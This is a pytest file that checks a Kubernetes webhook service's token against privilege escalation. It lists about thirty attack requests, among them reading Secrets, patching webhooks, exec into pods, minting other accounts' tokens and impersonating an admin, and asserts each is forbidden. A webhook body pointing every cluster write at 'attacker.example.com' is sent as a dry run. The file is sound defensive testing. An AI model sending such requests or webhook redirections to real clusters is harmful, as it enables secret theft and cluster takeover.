"""The rights of an attacker who has the token of the service."""

from typing import Any

import pytest
from harness.guard import NAMESPACE, Guard
from harness.machine import Machine
from harness.place import Place
from harness.registering import CONFIGURATIONS

pytestmark = pytest.mark.quick

AGENT = "attack"
RBAC = "/apis/rbac.authorization.k8s.io/v1"
REGISTRATION = "/apis/admissionregistration.k8s.io/v1"
POLICIES = "/apis/networking.k8s.io/v1/namespaces/{place}/networkpolicies"
OWN = f"/api/v1/namespaces/{NAMESPACE}"

# The purpose, the HTTP method, the path.
ATTACKS = {
    "read every Secret": ("GET", "/api/v1/secrets"),
    "list the Secrets of its own namespace": ("GET", f"{OWN}/secrets"),
    "read another Secret of its own namespace": ("GET", f"{OWN}/secrets/other"),
    "read a Secret elsewhere": ("GET", "/api/v1/namespaces/{place}/secrets/other"),
    "write a Secret elsewhere": ("PUT", "/api/v1/namespaces/{place}/secrets/eem-guardrail-tls"),
    "create a Secret elsewhere": ("POST", "/api/v1/namespaces/kube-system/secrets"),
    "delete its Secret": ("DELETE", f"{OWN}/secrets/eem-guardrail-tls"),
    "redirect another validating webhook": ("PATCH", f"{REGISTRATION}/validatingwebhookconfigurations/other"),
    "redirect another mutating webhook": ("PATCH", f"{REGISTRATION}/mutatingwebhookconfigurations/other"),
    "create a webhook": ("POST", f"{REGISTRATION}/mutatingwebhookconfigurations"),
    "read other webhooks": ("GET", f"{REGISTRATION}/validatingwebhookconfigurations/other"),
    "delete its registration": ("DELETE", f"{REGISTRATION}/validatingwebhookconfigurations/{NAMESPACE}"),
    "create a pod in its own namespace": ("POST", f"{OWN}/pods"),
    "create a pod elsewhere": ("POST", "/api/v1/namespaces/{place}/pods"),
    "run a command in a pod": ("POST", f"{OWN}/pods/any/exec?command=id"),
    "change its Deployment": ("PATCH", f"/apis/apps/v1/namespaces/{NAMESPACE}/deployments/{NAMESPACE}"),
    "create a policy": ("POST", POLICIES),
    "create a policy, as a dry run": ("POST", POLICIES + "?dryRun=All"),
    "change a policy": ("PATCH", POLICIES + "/allow-kafka"),
    "delete a policy": ("DELETE", POLICIES + "/allow-kafka"),
    "delete every policy": ("DELETE", POLICIES),
    "change an instance": ("PATCH", "/apis/events.ibm.com/v1beta1/namespaces/{place}/eventgateways/gw"),
    "widen its role": ("PATCH", f"{RBAC}/clusterroles/{NAMESPACE}"),
    "bind itself to another role": ("POST", f"{RBAC}/clusterrolebindings"),
    "get the token of another account": ("POST", "/api/v1/namespaces/kube-system/serviceaccounts/default/token"),
    "get a token of its own account": ("POST", f"{OWN}/serviceaccounts/{NAMESPACE}/token"),
    "reach a node": ("GET", "/api/v1/nodes/any/proxy/pods"),
    "change a namespace": ("PATCH", "/api/v1/namespaces/{place}"),
    "take the Lease of another program": ("PUT", "/apis/coordination.k8s.io/v1/namespaces/kube-system/leases/other"),
    "request a certificate": ("POST", "/apis/certificates.k8s.io/v1/certificatesigningrequests"),
}
# RBAC cannot prevent this; docs/security.md says so.
FOREIGN = {
    "name": "everything.example.com",
    "clientConfig": {"url": "https://attacker.example.com/"},
    "rules": [{"apiGroups": ["*"], "apiVersions": ["*"], "operations": ["*"], "resources": ["*/*"]}],
    "sideEffects": "None",
    "admissionReviewVersions": ["v1"],
}
OK, FORBIDDEN = 200, 403


def test_the_token_of_the_service_is_forbidden_everything_else(machine: Machine, place: Place, guard: Guard) -> None:
    """Every request that an attacker could send with the token is forbidden."""
    place.set_up_gateway()
    token = machine.must("create", "token", NAMESPACE, f"--namespace={NAMESPACE}").stdout
    asked: list[dict[str, Any]] = [
        {"method": method, "path": path.format(place=place.name), "headers": {}} for method, path in ATTACKS.values()
    ]
    as_admin = {"method": "GET", "path": "/api/v1/namespaces", "headers": {"Impersonate-User": "platform-admin"}}

    statuses = machine.run_program("harness.attack", {"token": token, "agent": AGENT, "asked": [*asked, as_admin]})

    assert dict(zip([*ATTACKS, "impersonate another user"], statuses, strict=True)) == dict.fromkeys(
        [*ATTACKS, "impersonate another user"], FORBIDDEN
    )
    assert place.policies() == {"allow-kafka", "default-deny-ingress"}
    assert len(guard.ready()) == len(guard.replicas())


@pytest.mark.usefixtures("guard")
@pytest.mark.parametrize("kind", CONFIGURATIONS)
def test_the_token_can_change_the_own_configurations_without_limit(machine: Machine, kind: str) -> None:
    """An attacker could send every write of the cluster to another address. A dry run shows it without an effect."""
    token = machine.must("create", "token", NAMESPACE, f"--namespace={NAMESPACE}").stdout
    path = f"{REGISTRATION}/{kind}s/{NAMESPACE}?dryRun=All"
    asked = [{"method": "PATCH", "path": path, "headers": {}, "body": {"webhooks": [FOREIGN]}}]

    assert machine.run_program("harness.attack", {"token": token, "agent": AGENT, "asked": asked}) == [OK]
